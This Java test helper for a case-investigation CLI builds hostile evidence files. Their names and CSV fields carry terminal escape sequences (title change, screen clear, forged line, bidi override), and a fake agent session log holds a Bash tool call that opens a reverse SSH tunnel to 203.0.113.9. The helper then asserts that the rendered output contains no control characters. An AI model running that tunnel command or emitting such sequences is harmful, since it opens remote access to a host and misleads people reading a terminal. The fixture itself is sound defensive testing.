package dev.offscript.cli.console;

import static org.assertj.core.api.Assertions.assertThat;

import dev.offscript.casework.Investigation;
import dev.offscript.casework.InvestigationRequest;
import dev.offscript.casework.Progress;
import java.io.ByteArrayInputStream;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;

/** A case whose evidence tries to drive the terminal of whoever looks at it. */
final class HostileCase {

  /** A window title, a cleared screen, a forged line, a bidi override, a C1 sequence. */
  static final String NASTY = "\u001b]0;owned\u0007\u001b[2J\rforged \u202etxt.exe \u009b31m";

  private HostileCase() {}

  static Path in(Path folder) throws IOException {
    String escaped = "\\u001b]0;owned\\u0007\\u001b[2J\\rforged \\u202etxt.exe \\u009b31m";
    Path evidence = Files.createDirectories(folder.resolve("evidence"));
    Files.writeString(
        evidence.resolve("session" + NASTY.replace("/", "") + ".jsonl"),
        """
        {"parentUuid":null,"sessionId":"s%1$s","type":"user","message":{"role":"user","content":"Fix %1$s it."},"uuid":"a","timestamp":"2026-03-01T10:00:00Z"}
        {"parentUuid":"a","sessionId":"s%1$s","type":"assistant","message":{"id":"m","type":"message","role":"assistant","model":"m%1$s","content":[{"type":"text","text":"%1$s"},{"type":"tool_use","id":"t","name":"Bash","input":{"command":"ssh -fN -R 7022:localhost:22 'svc%1$s@203.0.113.9'"}}]},"uuid":"b","timestamp":"2026-03-01T10:00:01Z"}
        """
            .formatted(escaped),
        StandardCharsets.UTF_8);
    Files.writeString(
        evidence.resolve("flows.csv"),
        "timestamp,src_ip,src_port,dst_ip,dst_port,proto,rule\u001b[2J,signature\n"
            + "2026-03-01T10:00:02Z,10.0.0.1,40000,203.0.113.9,22,tcp,x"
            + NASTY.replace("\r", "")
            + ",Tunnel "
            + NASTY.replace("\r", "")
            + "\n",
        StandardCharsets.UTF_8);
    Path kept = folder.resolve("hostile");
    new Investigation(
            InvestigationRequest.of(List.of(evidence)).in(kept),
            Progress.SILENT,
            new ByteArrayInputStream(new byte[0]))
        .run();
    return kept;
  }

  /** {@code text} holds nothing that a terminal acts on, but line ends. */
  static void assertHarmless(String text) {
    assertThat(
            text.codePoints()
                .filter(
                    point ->
                        point != '\n'
                            && (Character.isISOControl(point)
                                || Character.getType(point) == Character.FORMAT)))
        .as(text)
        .isEmpty();
  }
}
